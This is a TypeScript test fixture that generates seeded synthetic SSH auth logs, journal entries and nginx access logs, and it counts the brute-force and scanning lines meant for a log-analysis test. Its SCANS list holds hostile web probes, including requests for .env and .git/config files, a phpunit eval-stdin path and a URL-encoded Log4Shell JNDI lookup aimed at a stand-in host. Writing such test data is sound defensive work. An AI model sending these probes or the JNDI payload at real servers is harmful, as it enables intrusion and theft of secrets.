/** Makes logs of a made-up server, the same ones for the same seed, and counts their content. */
import { Random } from "../support/random.ts";
import { exportText, type Fields } from "../support/journal_files.ts";

/** Content of a log. */
export interface Expected {
  readonly lines: number;
  /** Number of lines in which the service names an address. */
  readonly named: number;
  /** Number of attackers' lines. */
  readonly attacks: number;
  readonly attackers: ReadonlySet<string>;
}

/** Options of a log. */
export interface CorpusOptions {
  readonly lines: number;
  readonly seed: number;
  /** Receives the log piece by piece. */
  readonly write: (text: string) => void;
}

const PIECE = 10_000;
const ATTACKERS = 20_000;
/** Start of the logs in seconds since the epoch, and their longest span. */
const BEGINNING = Date.UTC(2026, 2, 1) / 1_000;
const DAYS = 3;

const NAMES =
  "admin test oracle ubuntu postgres git user ftpuser mysql guest deploy www pi jenkins hadoop nagios"
    .split(" ");

/** Returns an address of no special network: IPv4, now and then IPv6. */
function attackers(random: Random): string[] {
  return random.times(ATTACKERS, () => {
    if (random.below(25) === 0) {
      return `2001:db8:${hex(random, 65_535)}:${hex(random, 65_535)}::${hex(random, 4_095)}`;
    }
    const first = random.pick([23, 45, 61, 103, 185, 193, 218]);
    return `${first}.${random.below(256)}.${random.below(256)}.${1 + random.below(254)}`;
  });
}

function hex(random: Random, limit: number): string {
  return (1 + random.below(limit)).toString(16);
}

/** A record of sshd or of another program. */
interface Line {
  readonly program: string;
  readonly pid: number;
  readonly message: string;
  /** The address that it names. */
  readonly address: string | null;
  readonly isAttack: boolean;
}

/**
 * The lines of sshd and of other programs. Three lines of five are about 20,000 attackers, in
 * realistic connections.
 */
class SshLog {
  readonly #random: Random;
  readonly #attackers: readonly string[];
  readonly #waiting: Line[][] = [];

  constructor(random: Random) {
    this.#random = random;
    this.#attackers = attackers(random);
  }

  /** Returns the next line, of an open connection or of a new one. */
  next(): Line {
    const random = this.#random;
    if (this.#waiting.length < 20) this.#waiting.push(random.below(10) < 6 ? this.#attack() : this.#peace());
    const at = random.below(this.#waiting.length);
    const [line, ...rest] = this.#waiting[at]!;
    if (rest.length > 0) this.#waiting[at] = rest;
    else this.#waiting.splice(at, 1);
    return line!;
  }

  #attack(): Line[] {
    const random = this.#random;
    const address = random.pick(this.#attackers);
    const [name, port, pid] = [
      random.pick(NAMES),
      1_024 + random.below(60_000),
      1_000 + random.below(60_000),
    ];
    const end = random.pick(["Connection closed by", "Disconnected from"]);
    const messages = random.pick([
      [
        `Invalid user ${name} from ${address} port ${port}`,
        `Failed password for invalid user ${name} from ${address} port ${port} ssh2`,
        `${end} invalid user ${name} ${address} port ${port} [preauth]`,
      ],
      [
        `Failed password for root from ${address} port ${port} ssh2`,
        `Failed password for root from ${address} port ${port} ssh2`,
        `${end} authenticating user root ${address} port ${port} [preauth]`,
      ],
    ]);
    return messages.map((message) => ({ program: "sshd", pid, message, address, isAttack: true }));
  }

  #peace(): Line[] {
    const random = this.#random;
    const pid = 1_000 + random.below(60_000);
    const line = (program: string, message: string, address: string | null = null): Line => ({
      program,
      pid,
      message,
      address,
      isAttack: false,
    });
    if (random.below(2) === 0) {
      return [
        line("CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
        line("CRON", "pam_unix(cron:session): session closed for user root"),
      ];
    }
    const address = `198.51.100.${1 + random.below(40)}`;
    const port = 1_024 + random.below(60_000);
    const key = "ED25519 SHA256:0123456789abcdefghijklmnopqrstuvwxyzABCDEFG";
    return [
      line("sshd", `Accepted publickey for deploy from ${address} port ${port} ssh2: ${key}`, address),
      line("sshd", "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)"),
      line("sshd", `Disconnected from user deploy ${address} port ${port}`, address),
      line("sshd", "pam_unix(sshd:session): session closed for user deploy"),
    ];
  }
}

/** Writes an auth.log as rsyslog does, with local times in UTC. Returns its content. */
export function writeAuthLog(options: CorpusOptions): Expected {
  const log = new SshLog(new Random(options.seed));
  return writeLines(options, (second) => {
    const { program, pid, message, address, isAttack } = log.next();
    const text = `${syslogTime(second)} web1 ${program}[${pid}]: ${message}`;
    return { text, address, isAttack };
  });
}

/** Writes the messages of `writeAuthLog()` as entries of a journal, in the export format. */
export function* exportedAuthLog({ lines, seed }: Omit<CorpusOptions, "write">): Generator<Uint8Array> {
  const log = new SshLog(new Random(seed));
  let entries: Fields[] = [];
  for (let i = 0; i < lines; i++) {
    const { program, pid, message } = log.next();
    const micros = Math.round((BEGINNING + secondsOf(i, lines)) * 1e6);
    entries.push([
      ["__REALTIME_TIMESTAMP", String(micros)],
      ["__MONOTONIC_TIMESTAMP", String(micros - BEGINNING * 1e6 + 1e6)],
      ["_BOOT_ID", "0123456789abcdef0123456789abcdef"],
      ["_MACHINE_ID", "fedcba9876543210fedcba9876543210"],
      ["_HOSTNAME", "web1"],
      ["_UID", "0"],
      ["_TRANSPORT", "syslog"],
      ["PRIORITY", "6"],
      ["SYSLOG_FACILITY", "10"],
      ["_SYSTEMD_UNIT", program === "sshd" ? "ssh.service" : "cron.service"],
      ["SYSLOG_IDENTIFIER", program],
      ["_PID", String(pid)],
      ["MESSAGE", message],
    ]);
    if (entries.length < PIECE && i < lines - 1) continue;
    yield exportText(entries);
    entries = [];
  }
}

const SCANS = [
  "/wp-login.php",
  "/.env",
  "/phpmyadmin/index.php",
  "/cgi-bin/test.cgi",
  "/admin/config.php",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/boaform/admin/formLogin",
  "/.git/config",
  "/xmlrpc.php",
  "/index.php?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D",
];

/** Writes nginx's access log in the format `combined`. One request of ten probes for holes. */
export function writeAccessLog(options: CorpusOptions): Expected {
  const random = new Random(options.seed);
  const all = attackers(random);
  return writeLines(options, (second) => {
    const isAttack = random.below(10) === 0;
    const address = isAttack
      ? random.pick(all)
      : `10.${random.below(64)}.${random.below(256)}.${random.below(256)}`;
    const path = isAttack ? random.pick(SCANS) : random.pick([
      "/",
      "/index.html",
      `/img/${random.below(10_000)}.png`,
      `/article/${random.below(100_000)}?page=${random.below(9)}`,
      "/css/site.css",
    ]);
    const status = isAttack ? 404 : random.pick([200, 200, 200, 200, 304, 302]);
    const agent = isAttack ? "Mozilla/5.0 zgrab/0.x" : `Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 ` +
      `(KHTML, like Gecko) Chrome/${100 + random.below(40)}.0.0.0 Safari/537.36`;
    const referer = isAttack ? "-" : "https://www.example.org/start";
    const text = `${address} - - [${accessTime(second)}] "GET ${path} HTTP/1.1" ${status} ${
      random.below(90_000)
    } "${referer}" "${agent}"`;
    return { text, address, isAttack };
  });
}

/**
 * Writes lines of sshd about `addresses` attackers in rotation, from the one of number `from` on.
 * With as many lines as addresses each address has one, so that none passes a limit.
 */
export function writeStrangers(
  { lines, from = 0, addresses = lines, write }: Omit<CorpusOptions, "seed"> & {
    from?: number;
    addresses?: number;
  },
): Expected {
  let next = 0;
  const now = Date.now() / 1_000 - BEGINNING;
  return writeLines({ lines, seed: 0, write }, () => {
    const n = from + next++ % addresses;
    const address = strangerOf(n);
    return { text: `${sshdOf(n, now)}Invalid user admin from ${address} port 4022`, address, isAttack: true };
  });
}

/** Writes sshd's three lines on one login attempt of each attacker, from number `from` on. */
export function writeAttempts(
  { attackers, from, write }: { attackers: number; from: number; write: (text: string) => void },
): Expected {
  let line = 3 * from;
  const now = Date.now() / 1_000 - BEGINNING;
  return writeLines({ lines: 3 * attackers, seed: 0, write }, () => {
    const n = Math.floor(line / 3);
    const address = strangerOf(n);
    const said = [
      `Invalid user admin from ${address} port 4022`,
      `Failed password for invalid user admin from ${address} port 4022 ssh2`,
      `Connection closed by invalid user admin ${address} port 4022 [preauth]`,
    ][line++ % 3]!;
    return { text: sshdOf(n, now) + said, address, isAttack: true };
  });
}

function strangerOf(n: number): string {
  return `${11 + (n >>> 24)}.${n >>> 16 & 255}.${n >>> 8 & 255}.${n & 255}`;
}

/** Returns the head of a message of the process that serves a stranger. */
function sshdOf(n: number, time: number): string {
  return `${syslogTime(time)} web1 sshd[${1_000 + n % 60_000}]: `;
}

interface Written {
  readonly text: string;
  readonly address: string | null;
  readonly isAttack: boolean;
}

function writeLines({ lines, write }: CorpusOptions, next: (second: number) => Written): Expected {
  const expected = { lines, named: 0, attacks: 0, attackers: new Set<string>() };
  let piece: string[] = [];
  for (let i = 0; i < lines; i++) {
    const { text, address, isAttack } = next(secondsOf(i, lines));
    if (address !== null) expected.named++;
    if (isAttack) {
      expected.attacks++;
      expected.attackers.add(address!);
    }
    piece.push(text);
    if (piece.length < PIECE && i < lines - 1) continue;
    write(`${piece.join("\n")}\n`);
    piece = [];
  }
  return expected;
}

/** Returns the time of line `i`, in seconds after the start. A million lines take the whole span. */
function secondsOf(i: number, lines: number): number {
  return i * DAYS * 86_400 / Math.max(lines, 1e6);
}

function syslogTime(second: number): string {
  const { day, month, clock } = parts(second);
  return `${month} ${String(day).padStart(2)} ${clock}`;
}

function accessTime(second: number): string {
  const { day, month, clock } = parts(second);
  return `${String(day).padStart(2, "0")}/${month}/2026:${clock} +0000`;
}

function parts(second: number): { day: number; month: string; clock: string } {
  const [, day, month, , clock] = new Date((BEGINNING + Math.floor(second)) * 1_000).toUTCString().split(" ");
  return { day: Number(day), month: month!, clock: clock! };
}
